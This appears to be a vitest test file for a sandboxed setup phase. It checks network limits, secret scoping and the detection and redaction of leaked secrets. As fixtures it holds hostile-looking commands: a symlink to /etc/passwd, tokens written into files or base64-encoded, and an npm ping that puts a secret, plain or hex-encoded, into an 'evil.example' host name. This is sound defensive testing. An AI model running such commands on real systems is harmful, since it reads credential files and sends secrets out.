import { existsSync, readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { Config } from "../../src/config.ts";
import { makeEnvironment } from "../../src/phases/environment.ts";
import { machineCache } from "../../src/phases/machine-cache.ts";
import { noSecrets, setupSecrets } from "../../src/phases/setup-secrets.ts";
import { realSandbox } from "../checks/sandbox.ts";
import type { FixtureFile } from "../workspace/repository.ts";
import { type LocalScene, localScene } from "./local-scene.ts";

const real = realSandbox();
const value = "plum-4711-cake-0815";
const sh = (script: string) => ["sh", "-c", script];

interface Way {
  files?: Record<string, FixtureFile>;
  setup: Partial<Config["setup"]>;
  variables?: Record<string, string>;
  limits?: Partial<Config["limits"]>;
  allow?: string[];
}

async function made(way: Way, use: (on: LocalScene) => Promise<void> | void = () => undefined) {
  await using on = await localScene(real.sandbox, { ".gitignore": "generated/\nnode_modules/\n", ...way.files });
  const task = await on.task();
  const config = Config.parse({ setup: way.setup, limits: way.limits ?? {} });
  const secrets = setupSecrets(
    config.setup,
    (name) => way.variables?.[name],
    () => undefined,
  );
  const order = {
    checkout: on.repository.root,
    source: on.repository.root,
    task: { ...task, config },
    secrets,
  };
  if (way.allow !== undefined) on.ground.network = { allow: way.allow, deny: [] };
  const installed = await makeEnvironment(on.ground, order).catch((thrown: unknown) => thrown);
  await use(on);
  return { installed, said: on.said };
}

describe("the setup commands", () => {
  test("run in a copy, and leave ignored files; changes to the tree, other new files and links are dropped and said", async () => {
    const { said } = await made(
      {
        files: { "src/a.ts": "1\n" },
        setup: {
          commands: [
            sh("mkdir -p generated/deep && echo one > generated/deep/client.ts"),
            sh("echo 2 > src/a.ts; echo new > notes.txt; ln -s /etc/passwd generated/link"),
          ],
        },
      },
      ({ ground, repository }) => {
        const generated = join(ground.dir, "generated");
        expect(readdirSync(generated, { recursive: true, encoding: "utf8" }).toSorted()).toEqual([
          "generated",
          "generated/deep",
          "generated/deep/client.ts",
        ]);
        expect(readFileSync(join(generated, "generated/deep/client.ts"), "utf8")).toBe("one\n");
        expect(statSync(join(generated, "generated/deep/client.ts")).uid).toBe(real.sandbox.user.uid);
        expect(readFileSync(join(repository.root, "src/a.ts"), "utf8")).toBe("1\n");
        expect(existsSync(join(repository.root, "notes.txt"))).toBe(false);
      },
    );
    expect(said).toEqual([
      expect.stringMatching(/^setup: "sh -c mkdir/),
      expect.stringMatching(/^setup: "sh -c echo 2/),
      "setup changed files of the repository, which does not count: src/a.ts",
      "setup made files that git does not ignore, which are dropped: notes.txt",
      "setup made links or protected names, which are dropped: generated/link",
      "setup done: 1 generated files",
    ]);
  });

  test("of which one fails leave no environment, and say which one and why", async () => {
    const { installed } = await made({ setup: { commands: [sh("echo broken >&2; exit 3"), sh("touch never")] } });
    expect(installed).toEqual({
      kind: "failed",
      key: "none",
      reason: 'the setup command "sh -c echo broken >&2; exit 3" ended with exit code 3\nbroken',
    });
  });

  test("have a time limit of their own", async () => {
    const { installed } = await made({ setup: { commands: [["sleep", "60"]] }, limits: { setup_s: 1 } });
    expect(installed).toMatchObject({
      kind: "failed",
      reason: 'the setup command "sleep 60" took longer than the 1 s of limits.setup_s',
    });
  });

  test("reach the registry alone; a failure names what was asked for besides", async () => {
    const { installed } = await made({
      setup: { commands: [["npm", "ping", "--registry=http://other.example/", "--fetch-retries=0"]] },
    });
    expect(installed).toMatchObject({
      kind: "failed",
      reason: expect.stringContaining("It asked for other.example:80; only the registry can be reached."),
    });
  });

  test("reach what [network.prepare] opens as well, and a failure does not say otherwise", async () => {
    const { installed } = await made({
      setup: { commands: [["npm", "ping", "--registry=http://other.example/", "--fetch-retries=0"]] },
      allow: ["a.example"],
    });
    expect(installed).toMatchObject({
      reason: expect.stringContaining(
        "It asked for other.example:80; only the registry and what [network.prepare] opens can be reached.",
      ),
    });
  });

  test("leave no process, and neither home nor temporary directory to what comes after", async () => {
    const { installed } = await made({
      setup: {
        commands: [
          sh("echo x > $HOME/kept; echo x > /tmp/kept; (setsid sleep 300 &) ; sleep 0.2"),
          sh('test ! -e "$HOME/kept" && test ! -e /tmp/kept && ! grep -l sleep /proc/[0-9]*/comm'),
        ],
      },
    });
    expect(installed).toMatchObject({ kind: "none", generated: expect.any(String) });
  });
});

describe("a secret", () => {
  test("is given to the setup commands, and to nobody who was not named", async () => {
    const { installed, said } = await made(
      {
        setup: {
          commands: [
            sh(
              'mkdir generated; printf %s "${#PLUM_TOKEN}" > generated/length; env | grep -c OTHER > generated/other; true',
            ),
          ],
          secrets: ["PLUM_TOKEN"],
        },
        variables: { PLUM_TOKEN: value, OTHER_TOKEN: "not-to-be-seen" },
      },
      ({ ground }) => {
        expect(readFileSync(join(ground.dir, "generated/generated/length"), "utf8")).toBe(String(value.length));
        expect(readFileSync(join(ground.dir, "generated/generated/other"), "utf8").trim()).toBe("0");
      },
    );
    expect(installed).toMatchObject({ kind: "none" });
    expect(said[0]).toBe("secrets for this step alone: PLUM_TOKEN");
    expect(said.at(-1)).toBe("no known form of a secret is left behind");
    expect(said.join("\n")).not.toContain(value);
  });

  test.each<[string, string, string]>([
    [
      "in a generated file",
      "mkdir generated; echo \"const t = '$PLUM_TOKEN'\" > generated/client.ts",
      "generated/generated/client.ts",
    ],
    [
      "encoded",
      'mkdir generated; printf "user:%s" "$PLUM_TOKEN" | base64 > generated/auth',
      "generated/generated/auth",
    ],
    ["as a name", 'mkdir generated; : > "generated/$PLUM_TOKEN"', "generated/generated/[redacted]"],
  ])(
    "left behind %s ends the run: the file is named, the value is not, and all of it is removed",
    async (_title, script, path) => {
      const { installed, said } = await made(
        { setup: { commands: [sh(script)], secrets: ["PLUM_TOKEN"] }, variables: { PLUM_TOKEN: value } },
        ({ ground }) => expect(existsSync(ground.dir)).toBe(false),
      );
      expect(installed).toMatchObject({
        code: "secret-residue",
        message: expect.stringContaining("The value of PLUM_TOKEN stands in"),
      });
      const message = installed instanceof Error ? installed.message : "";
      expect(message).toContain(path);
      expect(`${message}${said.join("")}`).not.toContain(value);
    },
  );

  test("the twin: the same command with a value that is no secret leaves its file", async () => {
    const { installed } = await made({
      setup: { commands: [sh(`mkdir generated; echo ${value} > generated/client.ts`)] },
    });
    expect(installed).toMatchObject({ kind: "none", generated: expect.any(String) });
  });

  test("that a failing command prints is not in the reason", async () => {
    const { installed, said } = await made({
      setup: { commands: [sh('echo "token $PLUM_TOKEN"; exit 1')], secrets: ["PLUM_TOKEN"] },
      variables: { PLUM_TOKEN: value },
    });
    expect(installed).toMatchObject({ kind: "failed", reason: expect.stringContaining("token [redacted]") });
    expect(said.join("\n")).not.toContain(value);
  });

  test("that became a host name, and lost its case there, is in the reason in no case; the name besides it is", async () => {
    const mixed = "Plum-4711-CAKE-0815";
    const ping = (host: string) => sh(`npm ping --registry=http://${host}/ --fetch-retries=0`);
    const hex = '"$(printf %s $PLUM_TOKEN | od -An -tx1 | tr -d " \\n" | tr a-f A-F)"';
    for (const host of ["$PLUM_TOKEN.evil.example", `${hex}.evil.example`]) {
      const { installed, said } = await made({
        setup: { commands: [ping(host)], secrets: ["PLUM_TOKEN"] },
        variables: { PLUM_TOKEN: mixed },
      });
      expect(installed).toMatchObject({
        kind: "failed",
        reason: expect.stringContaining("It asked for [redacted].evil.example:80"),
      });
      const told = `${JSON.stringify(installed)}${said.join("\n")}`.toLowerCase();
      expect(told).not.toContain(mixed.toLowerCase());
      expect(told).not.toContain(Buffer.from(mixed).toString("hex"));
    }
  });

  test("is not given to code that is not the trusted commit's; without secrets the same code is prepared", async () => {
    await using on = await localScene(real.sandbox, { "a.txt": "a" });
    const task = { ...(await on.task()), trusted: { commit: "b".repeat(40), tree: "c".repeat(40) } };
    const order = { checkout: on.repository.root, source: on.repository.root, task };
    const secrets = { ...noSecrets, given: [{ name: "PLUM_TOKEN", value }] };
    await expect(makeEnvironment(on.ground, { ...order, secrets })).rejects.toMatchObject({
      code: "bad-input",
      message: expect.stringContaining("not the trusted one"),
    });
    await expect(makeEnvironment(on.ground, { ...order, secrets: noSecrets })).resolves.toMatchObject({ kind: "none" });
  });
});

test("what code that is not the trusted commit's had installed is kept for no other run; what the trusted one had is", async () => {
  const packages = { "": { name: "p", version: "1.0.0" } };
  const lock = JSON.stringify({ name: "p", version: "1.0.0", lockfileVersion: 3, packages });
  const files = {
    "package.json": '{ "name": "p", "version": "1.0.0", "dependencies": {} }',
    "package-lock.json": lock,
  };
  await using on = await localScene(real.sandbox, files);
  const root = join(on.ground.dir, "cache");
  const cache = await machineCache({ root, now: on.now }, real.sandbox, on.ground.onProgress);
  const task = await on.task();
  const foreign = { ...task, trusted: { commit: "b".repeat(40), tree: "c".repeat(40) } };
  const from = async (its: typeof task) => {
    const order = { checkout: on.repository.root, source: on.repository.root, task: its, secrets: noSecrets };
    return await makeEnvironment({ ...on.ground, ...cache }, order);
  };
  expect(await from(foreign)).toMatchObject({ kind: "installed", from: "registry" });
  expect(await from(task)).toMatchObject({ kind: "installed", from: "registry" });
  expect(await from(task)).toMatchObject({ kind: "installed", from: "cache" });
});
